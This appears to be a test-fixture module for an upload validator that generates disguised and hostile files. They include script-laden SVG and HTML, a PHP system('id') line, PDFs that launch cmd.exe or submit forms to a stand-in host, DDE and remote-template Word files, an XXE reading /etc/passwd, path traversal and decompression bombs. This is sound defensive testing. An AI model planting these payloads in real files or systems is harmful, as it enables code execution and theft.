import { gzipSync } from 'node:zlib'
import { LIMITS, type Reason } from '@/lib/evidence/rules'
import { zip, type Entry } from './archive'
import { docx, MAIN, oldContainer, relation, relations, wordBody, xlsx } from './office'
import { flateStream, objectStream, packedAgain, pdf, plainStream } from './pdf'
import { hollowPng, movingPng, phonePhoto, scene } from './picture'

export type Hostile = { what: string; name: string; bytes: Buffer; reason: Reason }

const hostile = (what: string, name: string, bytes: Buffer | string, reason: Reason): Hostile => ({
  what,
  name,
  bytes: Buffer.isBuffer(bytes) ? bytes : Buffer.from(bytes, 'latin1'),
  reason,
})

const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
const html = '<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>'
const program = Buffer.concat([
  Buffer.from('MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff', 'latin1'),
  Buffer.alloc(600),
])
const elf = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(600)])
const gif = Buffer.concat([Buffer.from('GIF89a\x01\0\x01\0\x80\0\0', 'latin1'), Buffer.alloc(64)])
const isoMedia = (brand: string) =>
  Buffer.concat([
    Buffer.from([0, 0, 0, 24]),
    Buffer.from(`ftyp${brand}\0\0\0\0${brand}mif1`, 'latin1'),
    Buffer.alloc(200),
  ])

const part = (name: string, data: string | Buffer): Entry => ({ name, data })
const xmlWith = (dtd: string) => wordBody().replace('?>', `?>${dtd}`)

/** Files of the wrong kind, under honest and dishonest names. */
async function strangers(): Promise<Hostile[]> {
  const jpeg = await phonePhoto()
  const png = await scene().png().toBuffer()
  const tiff = await scene().tiff().toBuffer()
  return [
    hostile('nothing at all', 'foto.jpg', '', 'empty_file'),
    hostile(
      'a file over the limit',
      'foto.jpg',
      Buffer.alloc(LIMITS.uploadBytes + 1, jpeg),
      'file_too_large',
    ),
    hostile('a drawing with a script, as itself', 'denah.svg', svg, 'type_not_allowed'),
    hostile('a drawing with a script, as a photo', 'denah.png', svg, 'not_what_name_says'),
    hostile(
      'a drawing behind an XML declaration',
      'denah.svg',
      `<?xml version="1.0"?>\n${svg}`,
      'type_not_allowed',
    ),
    hostile('a drawing in UTF-16', 'denah.svg', Buffer.from(`\ufeff${svg}`, 'utf16le'), 'type_not_allowed'),
    hostile('a page, as itself', 'laporan.html', html, 'type_not_allowed'),
    hostile('a page, as a report', 'laporan.pdf', html, 'not_what_name_says'),
    hostile(
      'a page behind a hundred blank lines',
      'laporan.docx',
      '\n'.repeat(100) + html,
      'not_what_name_says',
    ),
    hostile(
      'a page saved with its pictures',
      'laporan.mht',
      'MIME-Version: 1.0\nContent-Type: multipart/related\n\n',
      'type_not_allowed',
    ),
    hostile('a program, as itself', 'pasang.exe', program, 'type_not_allowed'),
    hostile('a program, as a photo', 'foto.jpg', program, 'not_what_name_says'),
    hostile('a program behind two extensions', 'laporan.pdf.exe', program, 'type_not_allowed'),
    hostile('a program whose name reads backwards', 'laporan\u202Efdp.exe', program, 'type_not_allowed'),
    hostile('a program for Linux', 'foto.webp', elf, 'not_what_name_says'),
    hostile('a shell script', 'laporan.pdf', '#!/bin/sh\necho halo\n', 'not_what_name_says'),
    hostile('a PHP script', 'foto.jpg', '<?php system("id"); ?>', 'not_what_name_says'),
    hostile('plain text', 'catatan.txt', 'Hari ini rapat koordinasi.\n', 'type_not_allowed'),
    hostile(
      'noise',
      'foto.jpg',
      Buffer.alloc(4096, '\x00\x01\xfe\x80\x13\x37', 'latin1'),
      'not_what_name_says',
    ),
    hostile('a moving picture', 'foto.gif', gif, 'type_not_allowed'),
    hostile('a moving picture, as a photo', 'foto.png', gif, 'not_what_name_says'),
    hostile('a moving PNG', 'foto.png', movingPng(), 'not_what_name_says'),
    hostile('a photo format that browsers cannot show', 'IMG_0042.HEIC', isoMedia('heic'), 'heic_photo'),
    hostile('that format under another name', 'IMG_0042.jpg', isoMedia('heic'), 'not_what_name_says'),
    hostile('AVIF', 'foto.avif', isoMedia('avif'), 'type_not_allowed'),
    hostile('a video', 'video.mp4', isoMedia('isom'), 'type_not_allowed'),
    hostile('TIFF, as a photo', 'pindai.jpg', tiff, 'not_what_name_says'),
    hostile('a JPEG that says PNG', 'foto.png', jpeg, 'not_what_name_says'),
    hostile('a PNG that says JPEG', 'foto.jpg', png, 'not_what_name_says'),
    hostile('a photo that says program', 'foto.exe', jpeg, 'not_what_name_says'),
    hostile('a PDF that says Word', 'laporan.docx', pdf(), 'not_what_name_says'),
    hostile('rich text', 'surat.rtf', '{\\rtf1\\ansi{\\object\\objdata 0105}}', 'type_not_allowed'),
    hostile(
      'rich text, as Word',
      'surat.docx',
      '{\\rtf1\\ansi{\\object\\objdata 0105}}',
      'not_what_name_says',
    ),
    hostile('compressed anything', 'data.gz', gzipSync('data'), 'type_not_allowed'),
  ]
}

async function pictures(): Promise<Hostile[]> {
  const jpeg = await phonePhoto()
  const archive = zip([part('a.txt', 'isi')])
  return [
    hostile(
      'a picture that claims 65,535 by 65,535 dots',
      'foto.png',
      hollowPng(65_535, 65_535),
      'image_too_many_pixels',
    ),
    hostile('a picture of 56 megapixels', 'foto.png', hollowPng(8_000, 7_000), 'image_too_many_pixels'),
    hostile('a picture of no width', 'foto.png', hollowPng(0, 10), 'image_broken'),
    hostile(
      'the first bytes of a JPEG and no more',
      'foto.jpg',
      Buffer.from('ffd8ffe000104a46494600', 'hex'),
      'image_broken',
    ),
    hostile('a photo with an archive behind it', 'foto.jpg', Buffer.concat([jpeg, archive]), 'mixed_content'),
    hostile(
      'a photo with a program archive behind it',
      'foto.jpg',
      Buffer.concat([jpeg, zip([part('META-INF/MANIFEST.MF', 'x')])]),
      'mixed_content',
    ),
    hostile(
      'a photo that is a PDF to others',
      'foto.jpg',
      withComment(jpeg, '%PDF-1.4 1 0 obj'),
      'mixed_content',
    ),
    hostile(
      'a picture whose format disagrees with its beginning',
      'foto.webp',
      Buffer.concat([Buffer.from('RIFF\xff\0\0\0WEBPVP8 ', 'latin1'), Buffer.alloc(64)]),
      'image_broken',
    ),
  ]
}

function withComment(jpeg: Buffer, comment: string): Buffer {
  const length = Buffer.alloc(2)
  length.writeUInt16BE(comment.length + 2)
  return Buffer.concat([
    jpeg.subarray(0, 2),
    Buffer.from('fffe', 'hex'),
    length,
    Buffer.from(comment),
    jpeg.subarray(2),
  ])
}

const SCRIPT = '/S /JavaScript /JS (app.alert\\(1\\))'

function reports(): Hostile[] {
  const of = (what: string, change: Parameters<typeof pdf>[0], reason: Reason) =>
    hostile(what, 'laporan.pdf', pdf(change), reason)
  const ascii85 = Buffer.from('<~87cURD]i,"Ebo80~>', 'latin1')
  return [
    of('a script run on opening', { catalog: `/OpenAction <<${SCRIPT}>>` }, 'pdf_script'),
    of(
      'a script among the names',
      { catalog: '/Names <</JavaScript 5 0 R>>', objects: [`<<${SCRIPT}>>`] },
      'pdf_script',
    ),
    of(
      'a script spelt with escapes',
      { objects: ['<</S /J#61vaScript /JS (app.alert\\(1\\))>>'] },
      'pdf_script',
    ),
    of(
      'a script spelt all in escapes',
      { objects: ['<</S /#4a#61#76#61#53#63#72#69#70#74 /JS 6 0 R>>'] },
      'pdf_script',
    ),
    of('a script packed away', { objects: [objectStream([`<<${SCRIPT}>>`])] }, 'pdf_script'),
    of(
      'a script packed away without saying so',
      { objects: [objectStream([`<<${SCRIPT}>>`], '')] },
      'pdf_script',
    ),
    of(
      'a script packed with escapes, inside and out',
      { objects: [objectStream(['<</S /Java#53cript /JS 6 0 R>>'], '/Type /Obj#53tm')] },
      'pdf_script',
    ),
    of('a script in a form of the XFA kind', { catalog: '/AcroForm <</XFA 5 0 R>>' }, 'pdf_script'),
    of('a script in a film', { objects: ['<</S /Rendition /JS (x)>>'] }, 'pdf_script'),
    of('a script packed away twice', { objects: [packedAgain([`<<${SCRIPT}>>`])] }, 'pdf_unusual'),
    of(
      'a script packed twice, the outside looking like a number',
      { objects: [packedAgain([`<<${SCRIPT}>>`], 11)] },
      'pdf_unusual',
    ),
    of(
      "a file on somebody's share opened",
      { catalog: '/OpenAction <</S /GoToR /D [0 /Fit] /F (\\\\\\\\server\\\\x)>>' },
      'pdf_command',
    ),
    of('a program started', { objects: ['<</S /Launch /Win <</F (cmd.exe)>>>>'] }, 'pdf_command'),
    of(
      'a program started, with escapes',
      { catalog: '/OpenAction <</S /L#61unch /F (calc)>>' },
      'pdf_command',
    ),
    of(
      'a form that sends itself',
      { objects: ['<</S /SubmitForm /F (http://contoh.invalid)>>'] },
      'pdf_command',
    ),
    of(
      'a file inside',
      { catalog: '/Names <</EmbeddedFiles 5 0 R>>', objects: [flateStream('/Type /EmbeddedFile', 'MZ')] },
      'pdf_attachment',
    ),
    of(
      'a file inside, packed away',
      { objects: [objectStream(['<</Type /Filespec /EF <</F 9 0 R>>>>', '<</Type /EmbeddedFile>>'])] },
      'pdf_attachment',
    ),
    of('a Flash film', { objects: ['<</Subtype /RichMedia>>'] }, 'pdf_attachment'),
    of('a password', { trailer: '/Encrypt 5 0 R', objects: ['<</Filter /Standard /V 4>>'] }, 'locked_file'),
    of(
      'objects packed twice over',
      {
        objects: [plainStream('/Type /ObjStm /N 1 /First 4 /Filter [/ASCII85Decode /FlateDecode]', ascii85)],
      },
      'pdf_unusual',
    ),
    of(
      'objects packed by another method',
      { objects: [plainStream('/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode', 'x')] },
      'pdf_unusual',
    ),
    of(
      'packed objects that do not unpack',
      { objects: [plainStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', '\x78\x9cxxxxxxxx')] },
      'pdf_unusual',
    ),
    of(
      'packed objects announced from afar',
      { objects: [flateStream('/Type 6 0 R', '1 0 <<>>'), '/ObjStm'] },
      'pdf_unusual',
    ),
    of(
      'objects that unpack without end',
      {
        objects: [
          flateStream(
            '/Type /ObjStm',
            Buffer.concat([Buffer.from('1 0 '), Buffer.alloc(LIMITS.unpackedBytes)]),
          ),
        ],
      },
      'pdf_unusual',
    ),
    of('a page in front', { before: '<html><script>alert(1)</script></html>\n' }, 'mixed_content'),
    hostile(
      'an archive behind',
      'laporan.pdf',
      Buffer.concat([pdf(), zip([part('a.txt', 'isi')])]),
      'mixed_content',
    ),
    hostile('half a report', 'laporan.pdf', pdf().subarray(0, 400), 'pdf_broken'),
    hostile('only the first words of a report', 'laporan.pdf', '%PDF-1.7\n', 'pdf_broken'),
  ]
}

function documents(): Hostile[] {
  const word = (what: string, change: Parameters<typeof docx>[0], reason: Reason) =>
    hostile(what, 'laporan.docx', docx(change), reason)
  const table = (what: string, change: Parameters<typeof xlsx>[0], reason: Reason) =>
    hostile(what, 'rekap.xlsx', xlsx(change), reason)
  const wordParts = (...parts: Entry[]) => ({ parts })
  const many = Array.from({ length: 2_100 }, (_, index) => part(`word/media/x${index}.xml`, ''))
  const zeros = Buffer.alloc(60 * 1024 * 1024)
  const grainy = Buffer.alloc(36 * 1024 * 1024)
  for (let at = 0; at < grainy.length; at += 128) grainy.writeUInt32LE(Math.imul(at, 2_654_435_761) >>> 0, at)
  const external = (type: string, target: string) =>
    wordParts(part('word/_rels/document.xml.rels', relations(relation(type, target, true))))
  const vba = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'

  return [
    word('macros by declaration', { main: MAIN.docm }, 'office_macros'),
    hostile('macros under their own name', 'laporan.docm', docx({ main: MAIN.docm }), 'office_macros'),
    word(
      'macros hidden by character references',
      { main: MAIN.docm.replace('macro', '&#109;acro') },
      'office_macros',
    ),
    word(
      'a macro project on the side',
      { types: vba, ...wordParts(part('word/vbaProject.bin', oldContainer('VBA'))) },
      'office_macros',
    ),
    word('a macro project nobody declared', wordParts(part('word/vbaProject.bin', 'x')), 'office_macros'),
    word(
      'a macro project under a plain name',
      wordParts(part('word/data.bin', oldContainer('VBA'))),
      'office_object',
    ),
    table('macros by declaration, in a table', { main: MAIN.xlsm }, 'office_macros'),
    table('a macro sheet of 1992', wordParts(part('xl/macrosheets/sheet1.xml', '<xm/>')), 'office_macros'),
    table('an ActiveX control', wordParts(part('xl/activeX/activeX1.xml', '<ax/>')), 'office_object'),
    word(
      'an embedded object',
      wordParts(part('word/embeddings/oleObject1.bin', oldContainer())),
      'office_object',
    ),
    word('an embedded program', wordParts(part('word/media/image1.png', program)), 'office_object'),
    word('an embedded script', wordParts(part('word/media/jalan.vbs', 'WScript.Echo 1')), 'office_object'),
    word(
      'a template fetched from elsewhere',
      external('attachedTemplate', 'http://contoh.invalid/t.dotm'),
      'office_remote',
    ),
    word(
      'a template fetched from a share',
      external('attachedTemplate', 'file://server/t.dotm'),
      'office_remote',
    ),
    word(
      'an object fetched from elsewhere',
      external('oleObject', 'http://contoh.invalid/x'),
      'office_remote',
    ),
    word(
      'a field that calls a program',
      { body: wordBody('<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r></w:p>') },
      'office_remote',
    ),
    word(
      'an external entity',
      { body: xmlWith('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>') },
      'office_entities',
    ),
    word(
      'a billion laughs',
      { body: xmlWith('<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>') },
      'office_entities',
    ),
    word(
      'an entity in UTF-16',
      { body: Buffer.from(`\ufeff${xmlWith('<!DOCTYPE x []>')}`, 'utf16le') },
      'office_entities',
    ),
    word(
      'a character set that hides what it says',
      { body: '<?xml version="1.0" encoding="UTF-7"?><a/>' },
      'office_entities',
    ),
    word('more parts than anyone writes', wordParts(...many), 'archive_too_many_entries'),
    word('a part of zeros', wordParts(part('word/media/image1.png', zeros)), 'archive_ratio'),
    word(
      'zeros that claim to be few',
      wordParts({ ...part('word/media/image1.png', zeros), claims: { size: 100 } }),
      'archive_broken',
    ),
    word(
      'more than fits, part by part',
      wordParts(...['a', 'b', 'c'].map((name) => part(`word/media/${name}.png`, grainy))),
      'archive_unpacked_too_large',
    ),
    word(
      'an archive inside',
      wordParts(part('word/media/image1.zip', zip([part('a', 'b')]))),
      'archive_nested',
    ),
    word(
      'an archive inside, called a workbook',
      wordParts(part('word/embeddings/a.xlsx', zip([part('a', 'b')]))),
      'archive_nested',
    ),
    word(
      'a workbook with macros inside',
      wordParts(part('word/embeddings/a.xlsx', xlsx({ main: MAIN.xlsm }))),
      'office_macros',
    ),
    word(
      'a document in a workbook in a document',
      wordParts(part('word/embeddings/a.xlsx', xlsx(wordParts(part('xl/embeddings/b.docx', docx()))))),
      'archive_nested',
    ),
    word(
      'another packer inside',
      wordParts(part('word/media/a.png', Buffer.from('Rar!\x1a\x07\0', 'latin1'))),
      'archive_nested',
    ),
    word('a part that climbs out', wordParts(part('../../etc/cron.d/x', 'x')), 'archive_broken'),
    word('the same part twice', wordParts(part('word/document.xml', wordBody())), 'archive_broken'),
    word(
      'two names for one part',
      wordParts({ ...part('word/a.xml', '<a/>'), claims: { localName: 'word/b.exe' } }),
      'archive_broken',
    ),
    word(
      'a part with a password',
      wordParts({ ...part('word/a.xml', '<a/>'), encrypted: true }),
      'locked_file',
    ),
    word('a remark behind the archive', { extras: { comment: '%PDF-1.4' } }, 'mixed_content'),
    word('bytes behind the archive', { extras: { after: Buffer.from('<script>') } }, 'archive_broken'),
    word(
      'a main part that is not there',
      { rootRelations: relations(relation('officeDocument', 'word/other.xml')) },
      'archive_broken',
    ),
    hostile('half a document', 'laporan.docx', docx().subarray(0, -200), 'archive_broken'),
    hostile('a document with a password', 'laporan.docx', oldContainer('EncryptedPackage'), 'locked_file'),
    hostile('the old format', 'laporan.doc', oldContainer(), 'old_office'),
    hostile('the old format under the new name', 'laporan.docx', oldContainer(), 'not_what_name_says'),
    hostile('a table that says Word', 'laporan.docx', xlsx(), 'not_what_name_says'),
    hostile('slides', 'paparan.pptx', docx({ main: MAIN.pptx }), 'type_not_allowed'),
    hostile('a template', 'templat.dotx', docx({ main: MAIN.dotx }), 'type_not_allowed'),
    hostile(
      'the open format',
      'laporan.odt',
      zip([part('mimetype', 'application/vnd.oasis.opendocument.text'), part('content.xml', '<x/>')]),
      'type_not_allowed',
    ),
    hostile('an archive, as itself', 'bukti.zip', zip([part('a.txt', 'isi')]), 'type_not_allowed'),
    hostile('an archive, as Word', 'bukti.docx', zip([part('a.txt', 'isi')]), 'not_what_name_says'),
    hostile(
      'a document that is a report to others',
      'laporan.docx',
      zip([{ ...part('a', '%PDF-1.4'), stored: true }, ...documentEntries()]),
      'office_object',
    ),
  ]
}

const documentEntries = (): Entry[] => [part('[Content_Types].xml', '<Types/>')]

export async function hostileFiles(): Promise<Hostile[]> {
  return [...(await strangers()), ...(await pictures()), ...reports(), ...documents()]
}
